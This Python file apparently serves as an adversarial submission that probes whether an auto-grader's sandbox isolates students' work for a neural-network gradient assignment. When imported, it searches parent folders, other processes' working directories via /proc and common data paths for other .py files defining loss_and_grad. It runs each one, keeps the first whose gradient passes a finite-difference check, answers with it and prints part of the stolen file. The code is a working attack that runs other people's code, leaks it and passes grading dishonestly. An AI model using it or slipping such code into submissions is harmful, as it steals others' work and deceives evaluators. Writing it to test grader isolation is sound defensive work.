"""Hand in nothing of one's own: find a classmate's submission and pass with it.

A batch is graded from one folder. The file lists its own folder and every
folder above it, the current folder, the working folders of every process it
can see (``/proc/<pid>/cwd``) and two levels of the usual places for
submissions (``/submissions``, ``/srv``, ``/data``, ``/home``, ``/tmp``), executes
every other ``.py`` file there that defines ``loss_and_grad``, keeps the first
whose gradient agrees with finite differences of its own loss on a small
network, and answers every call with it. It quotes the start of what it took.

Held when: the jail shows no other submission; the file then fails. It prints
``ATTACK-SUCCEEDED`` and the start of the file it took if it found one.
"""

import contextlib
import glob
import os
import runpy

import numpy as np

ME = os.path.realpath(__file__)


def _folders():
    folders, path = [], os.path.dirname(ME)
    while True:
        folders.append(path)
        if path == "/":
            break
        path = os.path.dirname(path)
    folders.append(os.getcwd())
    for cwd in glob.glob("/proc/[0-9]*/cwd"):
        with contextlib.suppress(OSError):
            folders.append(os.path.realpath(cwd))
            folders.append(cwd)
    for top in ("/submissions", "/srv", "/data", "/home", "/tmp", "/var/tmp"):
        folders += glob.glob(os.path.join(top, "*")) + glob.glob(os.path.join(top, "*", "*"))
    return folders


def _self_test(fn):
    rng = np.random.default_rng(0)
    for sizes, T in (([2, 3, 1], np.array([0.0, 1.0, 1.0])), ([2, 3, 3], np.eye(3))):
        n = sum((a + 1) * b for a, b in zip(sizes[:-1], sizes[1:]))
        W, X = rng.normal(size=n), rng.normal(size=(3, 2))
        loss, grad = fn(W, X, T, sizes, 0.1)
        for i in range(n):
            step = np.zeros(n)
            step[i] = 1e-6
            estimate = (fn(W + step, X, T, sizes, 0.1)[0] - fn(W - step, X, T, sizes, 0.1)[0]) / 2e-6
            if abs(estimate - grad[i]) > 1e-5 * (1 + abs(estimate)):
                return False
    return True


def _steal():
    seen = set()
    for folder in _folders():
        for path in sorted(glob.glob(os.path.join(folder, "*.py"))):
            real = os.path.realpath(path)
            if real == ME or real in seen:
                continue
            seen.add(real)
            try:
                with open(path) as f:
                    text = f.read()
                # (A template of this corpus, placeholders unfilled, is never worth running.)
                if "def loss_and_grad" not in text or '"@@' in text:
                    continue
                fn = runpy.run_path(path)["loss_and_grad"]
                if _self_test(fn):
                    return path, text, fn
            except BaseException:
                continue
    return None, "", None


TAKEN, TEXT, ANSWER = _steal()
if ANSWER is not None:
    print(f"ATTACK-SUCCEEDED: took {TAKEN}: {TEXT[:400]}")
else:
    print("attack: no classmate's file to take")


def loss_and_grad(W, X, T, layer_sizes, lam):
    if ANSWER is None:
        return 0.0, np.zeros_like(W)
    return ANSWER(W, X, T, layer_sizes, lam)
